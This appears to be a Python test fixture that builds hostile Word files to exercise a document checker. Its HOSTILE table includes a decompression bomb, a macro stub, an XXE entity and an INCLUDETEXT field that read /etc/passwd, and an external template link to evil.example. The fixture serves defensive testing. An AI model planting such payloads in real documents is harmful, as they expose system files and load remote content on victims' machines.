"""Word files that nobody should open."""

import io
import zipfile

from docx.oxml.ns import nsdecls

from dinh.documents.docx import build_docx
from dinh.documents.letters.tests.samples import official_letter

GOOD = build_docx(official_letter())


def changed(*, add=None, replace=None) -> bytes:
    """A good file with parts added, or with bytes of a part replaced."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(GOOD)) as source,
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            content = source.read(item)
            for name, old, new in replace or ():
                if item.filename == name:
                    assert old in content
                    content = content.replace(old, new)
            target.writestr(item, content)
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return written.getvalue()


def with_field(instruction: str) -> bytes:
    field = f"<w:p {nsdecls('w')}><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p>"
    return changed(replace=[("word/document.xml", b"<w:sectPr", field.encode() + b"<w:sectPr")])


def with_external_link(kind: str) -> bytes:
    link = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        ' Target="http://evil.example/x" TargetMode="External"/></Relationships>'
    )
    return changed(replace=[("word/_rels/document.xml.rels", b"</Relationships>", link.encode())])


HOSTILE = {
    "bomb": lambda: changed(add={"word/media/zeros.bin": b"\0" * 150_000_000}),
    "macros": lambda: changed(add={"word/vbaProject.bin": b"x"}),
    "entities": lambda: changed(
        replace=[
            (
                "word/document.xml",
                b"<w:document",
                b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><w:document',
            )
        ]
    ),
    "external": lambda: with_external_link("attachedTemplate"),
    "live_field": lambda: with_field('INCLUDETEXT "/etc/passwd"'),
    "damaged": lambda: GOOD[: len(GOOD) // 2],
    "not_docx": lambda: b"%PDF-1.7 not a Word file",
    "old_or_encrypted": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
}
"""Made by the test that takes them: bombs need a second each, and each process reads all tests."""
